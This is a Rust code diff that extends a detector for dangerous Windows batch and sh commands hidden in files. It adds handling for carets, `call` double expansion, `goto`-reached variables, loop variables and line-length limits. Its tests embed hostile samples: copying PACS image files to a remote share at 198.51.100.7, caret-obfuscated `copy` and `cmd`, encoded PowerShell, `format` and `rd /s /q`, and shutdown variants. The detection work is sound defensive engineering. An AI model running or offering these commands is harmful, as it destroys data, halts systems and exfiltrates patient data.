@@ -809,11 +809,7 @@ fn loop_variable_program(
     before: &[u8],
     start: &[u8],
 ) -> Option<Command> {
-    let keyword_for = before
-        .iter()
-        .position(|b| !is_token_delimiter(*b) && !matches!(b, b'@' | b'(' | b'\r'))
-        .and_then(|at| before.get(at..at + 4))
-        .is_some_and(|word| word[..3].eq_ignore_ascii_case(b"for") && is_token_delimiter(word[3]));
+    let keyword_for = starts_with_for(before);
     let name = start
         .strip_prefix(b"%%")
         .or_else(|| start.strip_prefix(b"%"))?;
@@ -846,6 +842,107 @@ fn loop_variable_program(
                 "a Windows command line (\"{excerpt}\") whose program is a `for` loop's variable: what cmd.exe runs is what the loop's set yields when the file runs, not inspected"
             ),
         }
+    })
+}
+
+/// Whether `before`, what cmd.exe read before a command's program, starts with the
+/// keyword `for` (any form: `/f` with its options, `/r`, `/l`, `/d`, plain).
+fn starts_with_for(before: &[u8]) -> bool {
+    before
+        .iter()
+        .position(|b| !is_token_delimiter(*b) && !matches!(b, b'@' | b'(' | b'\r'))
+        .and_then(|at| before.get(at..at + 4))
+        .is_some_and(|word| word[..3].eq_ignore_ascii_case(b"for") && is_token_delimiter(word[3]))
+}
+
+/// The letter of the loop variable a `for` in `before` declares (`%%i`, or `%i` as
+/// typed at a prompt), if `before` starts with `for`.
+fn loop_variable_letter(before: &[u8]) -> Option<u8> {
+    if !starts_with_for(before) {
+        return None;
+    }
+    // The first `%%X` or `%X` followed by a delimiter: options (`"tokens=1,2"`) hold no
+    // `%`, and the variable comes before `in`.
+    (0..before.len()).find_map(|at| {
+        let rest = &before[at..];
+        let name = rest
+            .strip_prefix(b"%%")
+            .or_else(|| rest.strip_prefix(b"%"))?;
+        let letter = *name.first()?;
+        (letter.is_ascii_alphabetic() && name.get(1).is_some_and(|&b| ends_word(b)))
+            .then_some(letter)
+    })
+}
+
+/// Whether `arguments` use the loop variable `letter` (`%%i`, `%i`, `%%~nxi`) or one
+/// its `tokens=` option makes after it (`%%j`): a letter at or after it.
+fn uses_loop_variable(arguments: &[u8], letter: u8) -> bool {
+    arguments.iter().enumerate().any(|(at, &b)| {
+        if b != b'%' {
+            return false;
+        }
+        let rest = &arguments[at + 1..];
+        let rest = rest.strip_prefix(b"%").unwrap_or(rest);
+        // `~` and its modifiers (`~nx`, `~dp`) before the letter.
+        let rest = match rest.strip_prefix(b"~") {
+            Some(modified) => {
+                let letters = modified
+                    .iter()
+                    .take_while(|b| b.is_ascii_alphabetic())
+                    .count();
+                &modified[letters.saturating_sub(1)..]
+            }
+            None => rest,
+        };
+        rest.first().is_some_and(|&used| {
+            used.is_ascii_alphabetic()
+                && used.is_ascii_lowercase() == letter.is_ascii_lowercase()
+                && used >= letter
+                && rest
+                    .get(1)
+                    .is_none_or(|&after| !after.is_ascii_alphanumeric())
+        })
+    })
+}
+
+/// The finding for a known tool of [`BATCH`] given a `for` loop's variable as an
+/// argument (`for /f %%i in (list.txt) do shutdown %%i`) whose arguments as written
+/// made no alert: what the tool is given is what the loop yields when the file runs, a
+/// `not-inspected` warning (review of session 42, class 5: neither was said, though
+/// the CHANGELOG promised it).
+fn loop_variable_argument(
+    bytes: &[u8],
+    offset: usize,
+    before: &[u8],
+    start: &[u8],
+) -> Option<Command> {
+    let letter = loop_variable_letter(before)?;
+    let name_end = start
+        .iter()
+        .position(|&b| ends_word(b) || b == b'/')
+        .unwrap_or(start.len());
+    let name: Vec<u8> = start[..name_end]
+        .iter()
+        .filter(|&&b| !matches!(b, b'"' | b'^'))
+        .map(u8::to_ascii_lowercase)
+        .collect();
+    let file = &name[name
+        .iter()
+        .rposition(|&b| b == b'\\')
+        .map_or(0, |at| at + 1)..];
+    if !BATCH.contains(&without_program_extension(file)) {
+        return None;
+    }
+    let arguments = &start[name_end..command_len(start).max(name_end)];
+    uses_loop_variable(arguments, letter).then(|| Command {
+        offset,
+        interpreter: "batch",
+        severity: Severity::Warning,
+        kind: FindingKind::NotInspected,
+        detail: format!(
+            "a Windows command line (\"{}\") whose arguments hold a `for` loop's variable: what cmd.exe gives the tool is what the loop yields when the file runs, not inspected",
+            line_excerpt(bytes, offset)
+        ),
     })
 }
 
@@ -1387,9 +1484,16 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
                 ]) || piped
                     || stdin_from_file(line, chance_bytes))
         }
-        // shutdown.exe splits its arguments at blanks only (`/c reason=patch` is one
-        // value), where cmd.exe's own commands take `;`, `,` and `=` for blanks.
-        b"shutdown" => shutdown_acts(&before_block_end(blank_words(line, chance_bytes))),
+        // shutdown.exe splits its arguments at blanks (`/c reason=patch` is one value),
+        // where cmd.exe's own commands take `;`, `,` and `=` for blanks. Whether
+        // shutdown.exe also parts `,/s,/t,0` (cmd.exe ends the name `shutdown` at the
+        // first `,`) is not verifiable here: either reading that acts is an alert, the
+        // side of more alerts (review of session 42: `shutdown,/s,/t,0` was clean,
+        // session 41 alerted).
+        b"shutdown" => {
+            shutdown_acts(&before_block_end(blank_words(line, chance_bytes)))
+                || shutdown_acts(&words)
+        }
         // In binary values both names in printable ASCII: `\nren ` then a `*` in a word
         // of chance bytes is ~2e-6 a window (ARCHITECTURE invariant 11).
         b"ren" | b"rename" => {
@@ -5477,7 +5581,7 @@ fn batch_command_at(
     }
     // `call`, `if`, `for`: a command word before the program, which chance bytes do not
     // spell (see [`truly_bare`]).
-    let found = command_at(bytes, at, &line, skip, variables, in_block, binary, keyword);
+    let found = command_at_each_value(bytes, at, &line, skip, variables, in_block, binary, keyword);
     match (found, line.limit) {
         (Some(found), _) if !by_chance(&found) => Some(found),
         // What cmd.exe reads past the bound is not known: never silence, where what
@@ -5693,6 +5797,59 @@ impl<'b> CmdLine<'b> {
     }
 }
 
+/// [`command_at`] with each value its variables take somewhere in the file (see
+/// [`MAX_VARIABLE_VALUES_TRIED`]): the first alert, else what the line as read in file
+/// order gave, else a warning when more values were there than were tried.
+#[allow(clippy::too_many_arguments)]
+fn command_at_each_value(
+    bytes: &[u8],
+    at: usize,
+    line: &CmdLine<'_>,
+    from: usize,
+    variables: &mut Variables,
+    in_block: bool,
+    binary: Binary<'_>,
+    keyword: bool,
+) -> Option<Command> {
+    variables.choice = 0;
+    variables.alternatives = 0;
+    let first = command_at(bytes, at, line, from, variables, in_block, binary, keyword);
+    let values = std::mem::take(&mut variables.alternatives);
+    if values == 0
+        || first
+            .as_ref()
+            .is_some_and(|f| f.severity == Severity::Alert)
+    {
+        return first;
+    }
+    let mut found = None;
+    for choice in 1..=values.min(MAX_VARIABLE_VALUES_TRIED) {
+        if variables.spent {
+            break;
+        }
+        variables.choice = choice;
+        let tried = command_at(bytes, at, line, from, variables, in_block, binary, keyword);
+        if let Some(alert) = tried.filter(|f| f.severity == Severity::Alert) {
+            found = Some(alert);
+            break;
+        }
+    }
+    variables.choice = 0;
+    variables.alternatives = 0;
+    found.or(first).or_else(|| {
+        (values > MAX_VARIABLE_VALUES_TRIED).then(|| Command {
+            offset: at,
+            interpreter: "batch",
+            severity: Severity::Warning,
+            kind: FindingKind::NotInspected,
+            detail: format!(
+                "a Windows command line (\"{}\") whose variables the file sets to more values than the {MAX_VARIABLE_VALUES_TRIED} tried (MAX_VARIABLE_VALUES_TRIED): a `goto` may run it with any of them, and the others were not inspected",
+                line_excerpt(bytes, at)
+            ),
+        })
+    })
+}
+
 /// The command whose program starts at `from` in `line` (the command starting at `at`
 /// in `bytes`, as cmd.exe reads it: [`CmdLine`]; past what [`program_start`] skips), if
 /// its program is one [`batch_program`] knows; `in_block` when a `(` block is open there.
@@ -5732,8 +5889,9 @@ fn command_at(
     // by a variable has its arguments expanded too: review of session 41, `set c=copy`
     // then `%c% C:\PACS\*.dcm %s%` was clean, and no bound was said past 16 unset).
     let mut expansion: Option<ExpandedArguments> = None;
+    let called = is_called(&line.text[..from + skip]);
     let mut with_arguments = |line: &[u8], variables: &mut Variables| {
-        expansion = expand_arguments(bytes, offset, line, variables);
+        expansion = expand_arguments(bytes, offset, line, variables, called);
         expansion.as_ref().map(|found| found.line.clone())
     };
     if let Some(found) = loop_variable_program(bytes, offset, &line.text[..from + skip], start) {
@@ -5868,9 +6026,16 @@ fn command_at(
     let Some((program, alone)) =
         batch_program(start, named_by_path, pathext, in_block, chance_bytes, piped)
     else {
+        if let Some(found) = loop_variable_argument(bytes, offset, &line.text[..from + skip], start)
+        {
+            return Some(found);
+        }
         let expansion = expansion?;
         if expansion.spent {
             return Some(expansion_spent(bytes, offset));
+        }
+        if expansion.too_long {
+            return Some(line_too_long(bytes, offset));
         }
         if let Some(why) = expansion.unknown {
             return Some(Command {
@@ -5959,8 +6124,26 @@ fn expansion_spent(bytes: &[u8], offset: usize) -> Command {
 }
 
 /// The most characters of a line cmd.exe reads (Microsoft's "Command prompt line
-/// string limitation": 8,191): what lies past it is no part of the command.
-const CMD_LINE_LIMIT: usize = 8191;
+/// string limitation": 8,191): what lies past it is no part of the command. A line
+/// whose expansion is longer cmd.exe refuses ("The input line is too long."): a known
+/// tool's line so expanded that makes no alert within the limit is a `not-inspected`
+/// warning naming this limit, so that what an attacker pushes past it is said, never
+/// silence (how cmd.exe goes on after refusing such a line is not modelled).
+pub const CMD_LINE_LIMIT: usize = 8191;
+
+/// The warning for a known tool's line longer than [`CMD_LINE_LIMIT`] once expanded.
+fn line_too_long(bytes: &[u8], offset: usize) -> Command {
+    Command {
+        offset,
+        interpreter: "batch",
+        severity: Severity::Warning,
+        kind: FindingKind::NotInspected,
+        detail: format!(
+            "a Windows command line (\"{}\") whose variables expand it past the {CMD_LINE_LIMIT} characters cmd.exe reads of a line (CMD_LINE_LIMIT): cmd.exe refuses it as too long, and what lies past the limit was not inspected",
+            line_excerpt(bytes, offset)
+        ),
+    }
+}
 
 /// The most bytes read for one command, its carriage returns included: cmd.exe deletes
 /// them before it counts a line's characters ([`CMD_LINE_LIMIT`] counts what is left),
@@ -6728,7 +6911,24 @@ struct Variables {
     expanded: usize,
     /// [`MAX_EXPANDED_BYTES`] was reached: said once, then lines are read as written.
     spent: bool,
+    /// Which value a look-up takes: 0, the last `set` before the line (file order);
+    /// `k`, the `k`-th `set` of the name in the file, wherever it is (a `goto` reaches a
+    /// line before or after any of them: see [`MAX_VARIABLE_VALUES_TRIED`]).
+    choice: usize,
+    /// The most values one variable looked up on the current line has in the file
+    /// beside the one taken (0: none; its `set` commands counted).
+    alternatives: usize,
 }
+
+/// Values of one variable tried on a line beside the last set before it: cmd.exe runs a
+/// file's lines in the order its `goto` commands take, so a line may run after any of a
+/// variable's `set` commands (review of session 42: `goto a`, `:b`, `copy … %s%`, `:a`,
+/// `set s=\\host\x`, `goto b` copied to the share, and the line read with `s` unset was
+/// clean). Each value is tried in turn, up to this many (the expansion budget,
+/// [`MAX_EXPANDED_BYTES`], bounds the work too); a line whose variables have more values
+/// and found nothing is a `not-inspected` warning naming this bound. Not every
+/// combination of two variables' values is tried: the `k`-th of each together.
+pub const MAX_VARIABLE_VALUES_TRIED: usize = 8;
 
 /// The most bytes the expansion of variables writes in one file: the values put in place
 /// of `%NAME%`, `!NAME!`, their substrings and replacements in a command's line, and the
@@ -6751,7 +6951,21 @@ impl Variables {
         true
     }
 
-    /// The value `name` (lower case) holds at offset `at`: the last `set` before it.
+    /// How many values `name` (lower case) may hold at offset `at` beside the one
+    /// [`Variables::at`] takes with `choice` 0: its `set` commands in the file, when
+    /// there is more than one or the one is after `at`.
+    fn alternatives(&mut self, bytes: &[u8], name: &[u8], at: usize) -> usize {
+        if !self.read {
+            self.read(bytes);
+        }
+        match self.by_name.get(name) {
+            Some(indices) if indices.len() > 1 || self.set[indices[0]].0 >= at => indices.len(),
+            _ => 0,
+        }
+    }
+
+    /// The value `name` (lower case) holds at offset `at`: the last `set` before it, or
+    /// with a [`Variables::choice`] the `choice`-th `set` of it in the file.
     fn at(&mut self, bytes: &[u8], name: &[u8], at: usize) -> Lookup<'_> {
         if !self.read {
             self.read(bytes);
@@ -6762,7 +6976,11 @@ impl Variables {
         if self.full {
             return Lookup::NotKept;
         }
+        let choice = self.choice;
         let last_before = self.by_name.get(name).and_then(|indices| {
+            if let Some(&chosen) = choice.checked_sub(1).and_then(|k| indices.get(k)) {
+                return Some(&self.set[chosen]);
+            }
             let before = indices.partition_point(|&i| self.set[i].0 < at);
             before.checked_sub(1).map(|k| &self.set[indices[k]])
         });
@@ -6934,6 +7152,52 @@ struct ExpandedArguments {
     unknown: Option<String>,
     /// [`MAX_EXPANDED_BYTES`] was reached on this line.
     spent: bool,
+    /// The line expanded is longer than [`CMD_LINE_LIMIT`]: cmd.exe refuses to run it.
+    too_long: bool,
+}
+
+/// Whether `before`, what cmd.exe read before a command's program, holds the keyword
+/// `call` (`call copy …`, `@call`, `if x call …`).
+fn is_called(before: &[u8]) -> bool {
+    before
+        .split(|&b| is_token_delimiter(b) || matches!(b, b'@' | b'(' | b'\r'))
+        .any(|word| word.eq_ignore_ascii_case(b"call"))
+}
+
+/// [`expand_arguments_pass`] as cmd.exe expands the line of a command: once, or for a
+/// command `call` runs (`called`) twice: the line's `%%` is `%` after the first pass and
+/// `call` expands the result again (review of session 42: `call copy … %%s:~%n%%%` is
+/// `%s:~0%` after the first pass, the share after the second, and was clean). Both
+/// passes charge the one budget ([`MAX_EXPANDED_BYTES`]).
+fn expand_arguments(
+    bytes: &[u8],
+    at: usize,
+    start: &[u8],
+    variables: &mut Variables,
+    called: bool,
+) -> Option<ExpandedArguments> {
+    let mut first = expand_arguments_pass(bytes, at, start, variables, called)?;
+    if called
+        && memchr::memchr2(b'%', b'!', &first.line).is_some()
+        && !first.spent
+        && let Some(second) = expand_arguments_pass(bytes, at, &first.line, variables, false)
+    {
+        first = ExpandedArguments {
+            line: second.line,
+            cut: first.cut || second.cut,
+            unknown: first.unknown.or(second.unknown),
+            spent: second.spent,
+            too_long: false,
+        };
+    }
+    // Counted without the CRs cmd.exe deleted and the byte ending the command.
+    first.too_long = first
+        .line
+        .iter()
+        .filter(|&&b| !matches!(b, b'\r' | b'\n'))
+        .count()
+        > CMD_LINE_LIMIT;
+    Some(first)
 }
 
 /// The command at `start` (at `at` in `bytes`), when its program is a tool of [`BATCH`]
@@ -6944,11 +7208,13 @@ struct ExpandedArguments {
 /// expansion: more, never less, whether the file turned it on or not; review of session
 /// 41). Any other `%` is kept as written (`%TEMP%`, a `for` loop's `%%f`, `%~nf`). `None`
 /// when nothing was expanded, nothing unknown and no bound reached.
-fn expand_arguments(
+/// `reduce_doubled`: `%%` is read as `%` (the first pass of a `call`), else kept.
+fn expand_arguments_pass(
     bytes: &[u8],
     at: usize,
     start: &[u8],
     variables: &mut Variables,
+    reduce_doubled: bool,
 ) -> Option<ExpandedArguments> {
     let end = command_len(start);
     let line = &start[..end];
@@ -6960,16 +7226,28 @@ fn expand_arguments(
         .iter()
         .rposition(|&b| b == b'\\')
         .map_or(0, |at| at + 1)..];
+    // cmd.exe removes carets and quotes from the name before it runs it (`c^o^p^y`).
     let file: Vec<u8> = file
         .iter()
-        .filter(|&&b| b != b'"')
+        .filter(|&&b| !matches!(b, b'"' | b'^'))
         .map(u8::to_ascii_lowercase)
         .collect();
-    if variables.spent
-        || !BATCH.contains(&without_program_extension(&file))
+    if !BATCH.contains(&without_program_extension(&file))
         || memchr::memchr2(b'%', b'!', line).is_none()
     {
         return None;
+    }
+    if variables.spent {
+        // Read as written, and said: the budget, spent on an earlier line or on the
+        // file's `set` values, is why (review of session 42: once spent while the
+        // `set` values were expanded, no line said it).
+        return Some(ExpandedArguments {
+            line: to_command_end(start).to_vec(),
+            cut: false,
+            unknown: None,
+            spent: true,
+            too_long: false,
+        });
     }
     let mut out = Vec::with_capacity(line.len() + 1);
     let (mut looked, mut changed, mut cut, mut spent) = (0, false, false, false);
@@ -6981,9 +7259,15 @@ fn expand_arguments(
             i += 1;
             continue;
         }
-        // `%%`: a literal `%` (or a `for` loop's `%%f`), both kept.
+        // `%%`: a literal `%` (or a `for` loop's `%%f`), both kept; `%` after a
+        // `call`'s first pass, which its second reads.
         if b == b'%' && line.get(i + 1) == Some(&b'%') {
-            out.extend_from_slice(b"%%");
+            if reduce_doubled {
+                out.push(b'%');
+                changed = true;
+            } else {
+                out.extend_from_slice(b"%%");
+            }
             i += 2;
             continue;
         }
@@ -7010,14 +7294,23 @@ fn expand_arguments(
         }
         looked += 1;
         i += written.len();
-        let value = match variables.at(bytes, &name.to_ascii_lowercase(), at) {
+        let lower = name.to_ascii_lowercase();
+        let others = variables.alternatives(bytes, &lower, at);
+        variables.alternatives = variables.alternatives.max(others);
+        let value = match variables.at(bytes, &lower, at) {
             Lookup::Value(value) if value.iter().any(|&b| b == b'%' || b == b'!') => {
-                unknown.get_or_insert_with(|| {
-                    format!(
-                        "the variable {}, set from a loop or from other variables not known here",
-                        escape_bytes(name)
-                    )
-                });
+                if variables.spent {
+                    // Its `set` was left as written when the budget ran out: that, not
+                    // a loop, is why it is not known (review of session 42).
+                    spent = true;
+                } else {
+                    unknown.get_or_insert_with(|| {
+                        format!(
+                            "the variable {}, set from a loop or from other variables not known here",
+                            escape_bytes(name)
+                        )
+                    });
+                }
                 None
             }
             Lookup::Value(value) => Some(match edit {
@@ -7067,6 +7360,7 @@ fn expand_arguments(
         cut,
         unknown,
         spent,
+        too_long: false,
     })
 }
 
@@ -10328,6 +10622,52 @@ mod lolbin_tests {
         }
     }
 
+    /// Review of session 42 (issue 10, class 1, checked with dash): a power command
+    /// written as sh runs it (quotes and backslashes removed, a path, after `sudo` or a
+    /// wrapper), bare (`reboot` alone), and `init`/`telinit` with a runlevel that stops
+    /// the machine or its services were clean. Clinical prose with the same words, where
+    /// they are no command word or take no option, time or runlevel, stays clean.
+    #[test]
+    fn power_commands_in_every_form_sh_runs_are_commands() {
+        for text in [
+            "init 0\n",
+            "telinit 0\n",
+            "init 6\n",
+            "reboot\n",
+            "Findings stable\nreboot\n",
+            "reboot; echo done\n",
+            "halt\n",
+            "'shutdown' -h now\n",
+            "\"poweroff\"\n",
+            "\\reboot\n",
+            "s''hutdown -h now\n",
+            "\"reboot\" -f\n",
+            "/sbin/shutdown -h now\n",
+            "/sbin/init 0\n",
+            "sudo shutdown now\n",
+            "systemctl poweroff\n",
+            "systemctl reboot\n",
+            "systemctl halt\n",
+            "env reboot\n",
+            "command 'init' 6\n",
+        ] {
+            let found = find_shell_command(text.as_bytes()).map(|found| found.severity);
+            assert_eq!(found, Some(Severity::Alert), "{text:?}");
+        }
+        for text in [
+            "the scanner will reboot at 10:40\n",
+            "Init 0 dose\n",
+            "shutdown of the CT for service\n",
+            "Reboot\n",
+            "init of the series\n",
+            "init 10 mg\n",
+            "reboot() { :; }\n",
+            "halt the infusion\n",
+        ] {
+            assert_eq!(find_shell_command(text.as_bytes()), None, "{text:?}");
+        }
+    }
+
     /// Review of session 41 (issue 10, item 1): variable tricks cmd.exe expands from the
     /// file's own `set` commands were clean: delayed expansion (`!s!`), a substring
     /// (`%s:~0%`, `%s:~0,20%`), a replacement (`%s:x=l%`), a value set from another
@@ -10448,6 +10788,155 @@ mod lolbin_tests {
         let found = found(b"for /f %%a in (list.txt) do %%a", false).expect("a warning");
         assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
         assert_clean(&["For 10% of cases, do more"]);
+    }
+
+    /// Review of session 42 (issue 10, class 2): cmd.exe removes carets outside quotes
+    /// (phase 2 of its parser) before it names the program, so `c^o^p^y` is `copy` and
+    /// `c^md` is `cmd`: judged as every known tool is, not only `shutdown`.
+    #[test]
+    fn carets_in_every_known_tools_name_are_removed_before_it_is_judged() {
+        assert_alerts(
+            &[
+                "c^o^p^y C:\\PACS\\*.dcm \\\\198.51.100.7\\s",
+                "c^md /c calc.exe",
+                "c^m^d /c powershell -enc SQBFAFgA",
+                "f^o^r^m^a^t D: /q /y",
+                "x^c^o^p^y C:\\PACS \\\\198.51.100.7\\s /s",
+                "s^hutdown /r /t 0",
+                "r^d /s /q C:\\PACS",
+                "set s=\\\\198.51.100.7\\loot\r\nc^o^p^y C:\\PACS\\*.dcm %s%",
+                "set s=\\\\198.51.100.7\\loot\r\n\"c\"op^y C:\\PACS\\*.dcm %s%",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["c^^opy of the report", "\"c^o^p^y\" of the report"]);
+    }
+
+    /// Review of session 42 (issue 10, class 3): `call` expands its command's line a
+    /// second time, after the first pass made `%%` a `%`: `%%s%%` and `%%s:~%n%%%` are
+    /// the share then (cmd.exe's documented `call` rule).
+    #[test]
+    fn call_expands_its_line_a_second_time() {
+        assert_alerts(
+            &[
+                "set s=\\\\198.51.100.7\\loot\r\ncall copy C:\\PACS\\*.dcm %%s%%",
+                "set n=0\r\nset s=\\\\198.51.100.7\\loot\r\ncall copy C:\\PACS\\*.dcm %%s:~%n%%%",
+                "set s=\\\\198.51.100.7\\loot\r\n@call xcopy C:\\PACS %%s%% /s",
+            ],
+            &[false, true],
+        );
+        // Without `call` the doubled percent stays a literal `%s%` for copy.
+        assert_clean(&["set s=\\\\198.51.100.7\\loot\r\ncopy C:\\PACS\\*.dcm %%s%%"]);
+    }
+
+    /// Review of session 42 (issue 10, class 4): `goto` runs a line after a `set` that
+    /// follows it in the file: each value a variable takes anywhere in the file is tried
+    /// (more alerts, never fewer), to MAX_VARIABLE_VALUES_TRIED, past which the line is
+    /// a `not-inspected` warning naming it.
+    #[test]
+    fn a_variable_set_after_its_use_reached_by_goto_is_tried() {
+        assert_alerts(
+            &[
+                "goto a\r\n:b\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset s=\\\\198.51.100.7\\x\r\ngoto b",
+                "set s=C:\\backup\r\ngoto a\r\n:b\r\ncopy C:\\PACS\\*.dcm %s%\r\ngoto :eof\r\n:a\r\nset s=\\\\198.51.100.7\\x\r\ngoto b",
+            ],
+            &[false, true],
+        );
+        let many: String = (0..=MAX_VARIABLE_VALUES_TRIED)
+            .map(|k| format!("set s=C:\\backup{k}\r\n"))
+            .collect();
+        let line = format!("copy C:\\PACS\\*.dcm %s%\r\n{many}");
+        let found = found(line.as_bytes(), false).expect("a warning");
+        assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+        assert!(
+            found.detail.contains("MAX_VARIABLE_VALUES_TRIED"),
+            "{}",
+            found.detail
+        );
+        // Local values only, fewer than the bound: nothing to say.
+        assert_clean(&["copy C:\\PACS\\*.dcm %s%\r\nset s=C:\\backup\r\nset s=D:\\old"]);
+    }
+
+    /// Review of session 42 (issue 10, class 6): the budget's warning named "a variable
+    /// set from a loop" where the budget had stopped the expansion of `set` values; and
+    /// a line longer than cmd.exe's CMD_LINE_LIMIT once expanded is said.
+    #[test]
+    fn the_budget_and_the_line_limit_are_named_when_reached() {
+        // Values of 8 KiB each (doubled to cmd.exe's line limit): the budget runs out
+        // on the `set` values, before the `copy` line is read.
+        let mut text = format!("set b0={}\r\n", "v".repeat(200));
+        for k in 1..6 {
+            text.push_str(&format!("set b{k}=%b{0}%%b{0}%\r\n", k - 1));
+        }
+        for k in 0..200 {
+            text.push_str(&format!("set c{k}=%b5%\r\n"));
+        }
+        text.push_str("copy C:\\PACS\\*.dcm %c199%\r\n");
+        let spent = find_batch_command(text.as_bytes()).expect("a warning");
+        assert_eq!(spent.kind, FindingKind::NotInspected, "{}", spent.detail);
+        assert!(
+            spent.detail.contains("MAX_EXPANDED_BYTES") && !spent.detail.contains("loop"),
+            "{}",
+            spent.detail
+        );
+        // Values are kept to 256 bytes as written, to CMD_LINE_LIMIT built: doubled.
+        let mut doubled = format!("set b0={}\r\n", "v".repeat(250));
+        for k in 1..6 {
+            doubled.push_str(&format!("set b{k}=%b{0}%%b{0}%\r\n", k - 1));
+        }
+        let long = format!("{doubled}copy C:\\PACS\\*.dcm %b5%%b5%");
+        let found = found(long.as_bytes(), false).expect("a warning");
+        assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+        assert!(found.detail.contains("CMD_LINE_LIMIT"), "{}", found.detail);
+        // A share pushed past the limit is never silence: the line is said.
+        let hidden =
+            format!("{doubled}set s=\\\\198.51.100.7\\x\r\ncopy %b5%%b5%C:\\PACS\\*.dcm %s%");
+        let said = self::found(hidden.as_bytes(), false).expect("a warning");
+        assert!(said.detail.contains("CMD_LINE_LIMIT"), "{}", said.detail);
+    }
+
+    /// Review of session 42 (issue 10, class 7): cmd.exe ends a program's name at `,`,
+    /// `;` and `=` as at a blank, so `shutdown,/s,/t,0` runs shutdown.exe with the
+    /// arguments `,/s,/t,0`. How shutdown.exe splits them is not verifiable here: read
+    /// split at those delimiters too, the side of more alerts (session 41 alerted).
+    #[test]
+    fn shutdown_with_cmds_delimiters_between_its_switches_acts() {
+        assert_alerts(
+            &["shutdown,/s,/t,0", "shutdown;/r;/t;0", "shutdown=/s=/f"],
+            &[false, true],
+        );
+        assert_clean(&["shutdown, then restart of the scanner"]);
+    }
+
+    /// Review of session 42 (issue 10, class 5): a `for` loop's variable as the program
+    /// or an argument of a known tool is what the loop yields when the file runs: a
+    /// `not-inspected` warning at least, for every `for` form (`/f` with options, `/r`,
+    /// `/l`, `/d`, plain), as CHANGELOG promised.
+    #[test]
+    fn a_loop_variable_as_a_known_tools_program_or_argument_is_said() {
+        for line in [
+            "for /f \"usebackq\" %%i in (`type list.txt`) do %%i /s /t 0",
+            "for /f \"tokens=1,2 delims=,\" %%i in (list.txt) do %%i %%j",
+            "for /f %%i in (list.txt) do shutdown %%i",
+            "for /r C:\\ %%i in (*) do %%i",
+            "for /l %%i in (1,1,3) do %%i",
+            "for /d %%i in (*) do %%i",
+            "for %%i in (a b) do %%i",
+            "for %%i in (a b) do shutdown %%i",
+            "for /f %%i in (list.txt) do copy C:\\PACS\\*.dcm %%i",
+            "for /f %%i in (list.txt) do (shutdown %%i)",
+        ] {
+            for binary in [false, true] {
+                let found = found(line.as_bytes(), binary);
+                assert!(
+                    found
+                        .as_ref()
+                        .is_some_and(|found| found.severity >= Severity::Warning),
+                    "{line:?} (binary: {binary}): {found:?}"
+                );
+            }
+        }
+        assert_clean(&["For each series, do %%i checks"]);
     }
 
     /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
